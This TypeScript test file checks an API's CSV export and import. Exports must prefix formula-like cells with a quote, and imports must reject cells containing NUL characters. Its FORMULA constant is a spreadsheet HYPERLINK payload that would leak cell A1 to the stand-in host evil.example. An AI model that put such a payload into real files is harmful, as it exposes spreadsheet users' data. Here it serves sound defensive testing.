import { parse } from 'csv-parse/sync';
import type { InjectOptions } from 'fastify';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../../../test/support/test-app.js';
import { useWorkspaceWithUsers } from '../../../test/support/test-users.js';
import { demoId } from '../../demo/demo-id.js';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")';
const NUL = '\u0000';

describe('CSV exports and imports with cells spreadsheets would run or the database cannot store', () => {
  const testApp = useTestApp();
  const { workspace, coordinator } = useWorkspaceWithUsers(testApp, 'Tabellen', { coordinator: 'coordinator' });
  const inject = (options: InjectOptions) => testApp.current.app.inject(options);

  const get = (url: string) => inject({ method: 'GET', url, headers: coordinator.headers });
  const importCsv = (url: string, csv: string) => inject({ method: 'POST', url, payload: csv, headers: { ...coordinator.headers, 'content-type': 'text/csv' } });
  const csvRows = (body: string) => parse(body, { columns: true, bom: true, delimiter: ';' }) as Record<string, string>[];
  const organizationsNamed = async (q: string) =>
    (await get(`/api/organizations?q=${encodeURIComponent(q)}&limit=100`)).json().items.map((item: { name: string }) => item.name) as string[];

  it('exports an organization named like a formula with a quote before it, in the list and in the audit log', async () => {
    const created = await inject({ method: 'POST', url: '/api/organizations', headers: coordinator.headers, payload: { workspaceId: workspace.id, kind: 'ngo', name: FORMULA, shortName: '-5' } });
    expect(created.statusCode, created.body).toBe(201);

    const organizations = await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`);
    expect(organizations.statusCode).toBe(200);
    expect(csvRows(organizations.body)).toEqual([expect.objectContaining({ Name: `'${FORMULA}`, Kurzname: "'-5", Art: 'Nichtregierungsorganisation' })]);

    const audit = await get(`/api/workspaces/${workspace.id}/audit.csv?entityType=organization&lang=uk`);
    expect(audit.statusCode).toBe(200);
    const [event] = csvRows(audit.body);
    expect(event).toMatchObject({ Дія: 'Створено', Запис: `'${FORMULA}` });
    // The changes start with the field's name, so the formula inside them cannot run.
    expect(event!['Зміни']!.startsWith(`Назва: ${FORMULA}\n`)).toBe(true);
    expect(event!['Зміни']).toContain('Коротка назва: -5');
    expect(event!['Зміни']).toContain('Вид: Громадська організація');
  });

  it('imports names starting with formula characters as they are, and an exported cell without the quote it got', async () => {
    const exported = (await get(`/api/organizations/export.csv?q=${encodeURIComponent('HYPERLINK')}`)).body;
    expect(exported).toContain('\n"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klick"")";\'-5;Nichtregierungsorganisation;');
    const [row] = csvRows(exported);
    // Seated elsewhere than the exported one, so it is another organization of the same name, not a duplicate.
    const csv = ['name,kind,short_name,seat', `"${row!.Name!.replaceAll('"', '""')}",ngo,${row!.Kurzname},Leipzig`, '-Verein Minus,ngo,@Kurz,', "'s-Hertogenbosch Vereniging,ngo,,"].join('\n');
    const report = (await importCsv(`/api/imports/organizations?workspaceId=${workspace.id}`, csv)).json();
    expect(report).toMatchObject({ rows: 3, created: 3, issues: [] });
    expect((await organizationsNamed('HYPERLINK')).sort()).toEqual([FORMULA, FORMULA]);
    expect(await organizationsNamed('Verein Minus')).toEqual(['-Verein Minus']);
    expect(await organizationsNamed('Hertogenbosch')).toEqual(["'s-Hertogenbosch Vereniging"]);
  });

  it('reports an imported cell with NUL as a bad row, naming line and column, and writes nothing', async () => {
    const before = await organizationsNamed('Nullverein');
    const csv = ['name,kind,short_name', 'Nullverein Eins,ngo,', `Nullverein${NUL} Zwei,ngo,N${NUL}`, 'Nullverein Drei,ngo,'].join('\n');
    const response = await importCsv(`/api/imports/organizations?workspaceId=${workspace.id}`, csv);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toMatchObject({ rows: 3, validRows: 2, invalidRows: 1, created: 0 });
    expect(response.json().issues).toEqual([
      { line: 3, field: 'name', code: 'invalid_text', message: 'contains a NUL character (U+0000) at character 11, which cannot be stored; remove it' },
      { line: 3, field: 'short_name', code: 'invalid_text', message: expect.stringContaining('NUL character') },
    ]);
    expect(await organizationsNamed('Nullverein')).toEqual(before);

    const skipping = (await importCsv(`/api/imports/organizations?workspaceId=${workspace.id}&skipInvalid=true`, csv)).json();
    expect(skipping).toMatchObject({ created: 2, invalidRows: 1 });
    expect((await organizationsNamed('Nullverein')).sort()).toEqual(['Nullverein Drei', 'Nullverein Eins']);

    const people = (await importCsv(`/api/imports/people?workspaceId=${workspace.id}&dryRun=true`, `given_name,family_name,consent_basis\nOl${NUL}ena,Koval,public_task`)).json();
    expect(people.issues).toEqual([{ line: 2, field: 'given_name', code: 'invalid_text', message: expect.stringContaining('NUL character') }]);
  });

  it('reports an indicator value cell with NUL as a bad row of the area import', async () => {
    const monitor = await inject({
      method: 'POST',
      url: '/api/area-monitors',
      headers: coordinator.headers,
      payload: { workspaceId: workspace.id, title: { de: 'Gebiete' }, cityPlaceId: demoId('place:leipzig'), indicators: [{ key: 'unemployment', name: { de: 'Arbeitslosenquote' }, unit: '%', direction: 'higher_is_worse', weight: 1 }] },
    });
    expect(monitor.statusCode, monitor.body).toBe(201);
    const url = `/api/area-monitors/${monitor.json().id}/values/import`;
    const report = (await importCsv(url, `area,period,unemployment\nGrünau,2016,10\nLeipziger Osten,2016,1${NUL}2`)).json();
    expect(report).toMatchObject({ rows: 2, validRows: 1, invalidRows: 1, valuesWritten: 0 });
    expect(report.issues).toEqual([{ line: 3, field: 'unemployment', code: 'invalid_text', message: expect.stringContaining('NUL character (U+0000) at character 2') }]);
    expect((await get(`/api/area-monitors/${monitor.json().id}`)).json().periods).toEqual([]);
  });
});
